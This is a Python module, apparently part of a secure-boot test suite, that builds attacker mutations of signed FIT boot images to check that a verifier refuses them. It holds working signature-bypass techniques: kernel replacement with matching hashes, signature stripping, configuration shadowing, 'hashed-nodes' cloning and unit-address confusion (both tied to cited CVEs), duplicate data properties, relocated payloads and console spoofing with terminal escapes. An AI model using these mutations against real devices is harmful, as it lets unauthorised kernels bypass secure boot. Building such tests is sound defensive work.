# SPDX-License-Identifier: MIT
"""What an attacker without a key does to a FIT: pure mutations of a valid one.

The FIT has embedded data. Whatever a function does not name stays byte for byte as it was, so that
the old signature still covers it, and the refusal is for the reason the attack is about. `kernel`
is always the payload that the attacker wants to run.
"""

from __future__ import annotations

import functools
import hashlib
import struct
from collections.abc import Callable, Iterable, Mapping
from copy import deepcopy
from typing import Concatenate, Final, ParamSpec

from bootseal.boot.attacks import forge
from bootseal.errors import FormatError, UsageError
from bootseal.formats.fdt import model as fdt
from bootseal.formats.fdt.model import Node
from bootseal.formats.fdt.scan import Tag

FIT_ADDRESS: Final = 0x50000000
"""Where the boot logic reads the FIT to; see bootseal.env."""

KERNEL_ADDRESS: Final = 0x40200000
"""Where the reference kernel is unpacked to."""

_U32: Final = struct.Struct(">I")
_CLONES: Final = "images"
_PROPERTY_HEAD: Final = 12
"""Bytes of a property in front of its value: tag, size, offset of the name."""
_VERSION_OFFSET: Final = 20
_SIZE_OFFSET: Final = 4
_EVIL: Final = "kernel-evil"
_EVIL_CONFIGURATION: Final = "conf-evil"
# Where nothing else is loaded to.
_EVIL_LOAD: Final = 0x60000000
_P = ParamSpec("_P")


def _of_a_fit(
    change: Callable[Concatenate[Node, _P], None],
) -> Callable[Concatenate[bytes, _P], bytes]:
    """Make a change of a tree an attack on a FIT; everything else stays byte for byte."""

    @functools.wraps(change)
    def attack(fit: bytes, /, *args: _P.args, **kwargs: _P.kwargs) -> bytes:
        return fdt.rewrite(fit, lambda root: change(root, *args, **kwargs))

    return attack


def configurations(fit: bytes) -> list[str]:
    """Return the names of the configurations in file order.

    Raises:
        FormatError: There is none.
    """
    node = fdt.read(fit).find("/configurations")
    if node is None or not node.children:
        raise FormatError("the FIT has no configuration")
    return [child.name for child in node.children]


def first_configuration(fit: bytes) -> str:
    """Return the name of the first configuration.

    Raises:
        FormatError: There is none.
    """
    return configurations(fit)[0]


def carrying(change: Callable[[bytes, bytes], bytes], detail: str) -> Callable[[bytes], bytes]:
    """Return an attack that brings in a kernel which names `detail` on the console when it runs."""
    return lambda fit: change(fit, forge.attacker_kernel(detail))


def locate(fit: bytes, path: str, name: str) -> tuple[int, int]:
    """Return the offset and the size, in bytes, of a property's value in the file.

    Raises:
        FormatError: There is no such node or property, or it is empty.
    """
    node = fdt.read(fit).find(path)
    found = None if node is None else node.properties.get(name)
    if found is None or not len(found.value):
        raise FormatError(f"the FIT has no property {name!r} with a value in node {path}")
    return found.offset, len(found.value)


def referenced(fit: bytes, configuration: str, name: str) -> str:
    """Return the name of the image that a configuration's property names.

    Raises:
        FormatError: There is no such configuration or property.
    """
    node = fdt.read(fit).find(f"/configurations/{configuration}")
    value = None if node is None else node.value(name)
    if not value:
        raise FormatError(f"the FIT has no configuration {configuration!r} that names a {name}")
    return value.split(b"\0")[0].decode(errors="replace")


@_of_a_fit
def replace_payload(root: Node, /, image: str, payload: bytes, **properties: str) -> None:
    """Put another payload into an image, with hashes that match.

    Args:
        root: The FIT.
        image: Name of the image node.
        payload: New data, as stored.
        properties: String properties to set on the node, for example `compression="none"`.
    """
    _fill(_find(root, f"/images/{image}"), payload, properties)


def replace_kernel(fit: bytes, kernel: bytes) -> bytes:
    """Replace the kernel that the first configuration names, with hashes that match."""
    name = referenced(fit, first_configuration(fit), "kernel")
    return replace_payload(fit, name, kernel, compression="none")


def replace_and_strip(fit: bytes, kernel: bytes) -> bytes:
    """Replace the kernel and remove every signature node."""
    return strip_signatures(replace_kernel(fit, kernel))


@_of_a_fit
def strip_signatures(root: Node) -> None:
    """Remove every signature node."""
    for configuration in _find(root, "/configurations").children:
        configuration.children = list(_without(configuration.children, "signature"))


@_of_a_fit
def shadow_configurations(root: Node, kernel: bytes) -> None:
    """Put an attacker's configuration of the same name in front of each genuine one.

    Each names an added kernel and has the genuine signature node copied into it. The genuine
    configurations and their images are still there, unchanged.
    """
    genuine = _find(root, "/configurations").children
    _add_kernel(root, genuine[0], kernel)
    genuine[:0] = [_naming_it(node, node.name) for node in genuine]


@_of_a_fit
def add_configuration(root: Node, kernel: bytes) -> None:
    """Add a copy of the first configuration that names the attacker's kernel, as the default."""
    configurations = _find(root, "/configurations")
    genuine = configurations.children[0]
    _add_kernel(root, genuine, kernel)
    configurations.children.append(_naming_it(genuine, _EVIL_CONFIGURATION))
    configurations.properties["default"] = _EVIL_CONFIGURATION.encode() + b"\0"


@_of_a_fit
def clone_images(root: Node, kernel: bytes) -> None:
    """Let the signature cover copies of the images while the images themselves are replaced.

    The signed image nodes are cloned, without data, into a new node below `/images`; the real
    kernel is replaced; `hashed-nodes`, which is not signed, names the clones. A verifier that
    trusts `hashed-nodes` hashes the same bytes as before and accepts (CVE-2026-46728).
    """
    images, configurations = _find(root, "/images"), _find(root, "/configurations")
    clones = [_without_data(image) for image in images.children]
    kernels = {_kernel_of(root, conf).name for conf in configurations.children}
    for image in images.children:
        if image.name in kernels:
            _fill(image, kernel, {"compression": "none"})
    # The empty last node keeps the end tag of the new parent out of the signed bytes.
    images.children.append(Node(_CLONES, {}, [*clones, Node("zz", {}, [])]))
    for configuration in configurations.children:
        for node in configuration.children:
            if (old := node.properties.get("hashed-nodes")) is not None:
                new = f"/images/{_CLONES}/".encode()
                node.properties["hashed-nodes"] = old.replace(b"/images/", new)


@_of_a_fit
def add_unit_address(root: Node, kernel: bytes) -> None:
    """Put `<kernel>@1` with another payload in front of the first configuration's kernel.

    libfdt finds it when asked for the name without the unit address (CVE-2021-27138).
    """
    genuine = _kernel_of(root, _find(root, "/configurations").children[0])
    evil = deepcopy(genuine)
    evil.name = f"{genuine.name}@1"
    _fill(evil, kernel, {"compression": "none"})
    _find(root, "/images").children.insert(0, evil)


def add_data(fit: bytes, kernel: bytes) -> bytes:
    """Put a second `data` property in front of that of the first configuration's kernel.

    No signature covers a property of this name, however many there are. libfdt returns the first;
    a reader that keeps properties by name is left with the last, which is the genuine one.
    """
    image = referenced(fit, first_configuration(fit), "kernel")
    value, _ = locate(fit, f"/images/{image}", "data")
    flat = fdt.read(fit)
    strings = bytearray(flat.strings)
    evil = fdt.encode_property("data", kernel, strings)
    start, place = flat.header.off_struct, value - _PROPERTY_HEAD
    structure = fit[start:place] + evil + fit[place : start + flat.header.size_struct]
    return fdt.assemble(bytes(16), structure, strings)


@_of_a_fit
def set_number(root: Node, path: str, name: str, value: int) -> None:
    """Set a property to one big-endian 32-bit number."""
    _find(root, path).properties[name] = _U32.pack(value)


def set_version(fit: bytes, version: int) -> bytes:
    """Claim another version in the header, which no signature covers."""
    return fit[:_VERSION_OFFSET] + _U32.pack(version) + fit[_VERSION_OFFSET + _U32.size :]


def set_size(fit: bytes, size: int) -> bytes:
    """Claim another total size in the header, in bytes, without adding any."""
    return fit[:_SIZE_OFFSET] + _U32.pack(size) + fit[_SIZE_OFFSET + _U32.size :]


@_of_a_fit
def set_text(root: Node, path: str, name: str, text: str) -> None:
    """Set a property to a string, whatever is in it."""
    _find(root, path).properties[name] = text.encode() + b"\0"


def spoof_console(fit: bytes) -> bytes:
    """Write terminal escapes and lines of a good boot into the key name hint of each signature."""
    text = "\x1b[2J\r\nbootseal: root-{} verified by dm-verity, starting the system\r\n"
    for name in configurations(fit):
        path = f"/configurations/{name}/signature-1"
        fit = set_text(fit, path, "key-name-hint", text.format(name[-1]))
    return fit


def nested(depth: int) -> bytes:
    """Make a tree in which each node holds the next."""
    begin, end = fdt.encode_begin("n") * depth, _U32.pack(Tag.END_NODE) * depth
    root = fdt.encode_begin("") + begin + end + _U32.pack(Tag.END_NODE)
    return fdt.assemble(bytes(16), root + _U32.pack(Tag.END), b"description\0")


def move_payload(fit: bytes, image: str, position: int) -> bytes:
    """Move an image's payload out of the tree, to an absolute position after it.

    `data-position` and `data-size` are not signed, and the hash of the payload still matches.

    Args:
        fit: The FIT.
        image: Name of the image node.
        position: Bytes from the start of the FIT.

    Raises:
        UsageError: The position is inside the tree.
    """
    payload = _find(fdt.parse(fit), f"/images/{image}").properties["data"]
    tree = fdt.rewrite(fit, lambda root: _detach(root, image, position))
    if len(tree) > position:
        raise UsageError(f"position {position:#x} is inside the tree of {len(tree):#x} bytes")
    return tree.ljust(position, b"\0") + payload


def _find(root: Node, path: str) -> Node:
    node = root.find(path)
    if node is None:
        raise FormatError(f"the FIT has no node {path}")
    return node


def _kernel_of(root: Node, configuration: Node) -> Node:
    name = configuration.properties.get("kernel", b"").split(b"\0")[0].decode(errors="replace")
    return _find(root, f"/images/{name}")


def _add_kernel(root: Node, configuration: Node, kernel: bytes) -> None:
    evil = deepcopy(_kernel_of(root, configuration))
    evil.name = _EVIL
    evil.properties |= dict.fromkeys(("load", "entry"), _U32.pack(_EVIL_LOAD))
    _fill(evil, kernel, {"compression": "none"})
    _find(root, "/images").children.append(evil)


def _naming_it(configuration: Node, name: str) -> Node:
    copy = deepcopy(configuration)
    copy.name = name
    copy.properties["kernel"] = f"{_EVIL}\0".encode()
    return copy


def _without(nodes: Iterable[Node], prefix: str) -> Iterable[Node]:
    return (node for node in nodes if not node.name.startswith(prefix))


def _without_data(node: Node) -> Node:
    properties = {name: value for name, value in node.properties.items() if name != "data"}
    return Node(node.name, properties, deepcopy(node.children))


def _fill(node: Node, payload: bytes, properties: Mapping[str, str]) -> None:
    node.properties["data"] = payload
    for name, value in properties.items():
        node.properties[name] = value.encode() + b"\0"
    for child in node.children:
        if child.name.startswith("hash"):
            algorithm = child.properties["algo"].rstrip(b"\0").decode()
            child.properties["value"] = hashlib.new(algorithm, payload).digest()


def _detach(root: Node, image: str, position: int) -> None:
    properties = _find(root, f"/images/{image}").properties
    properties["data-size"] = _U32.pack(len(properties.pop("data")))
    properties["data-position"] = _U32.pack(position)
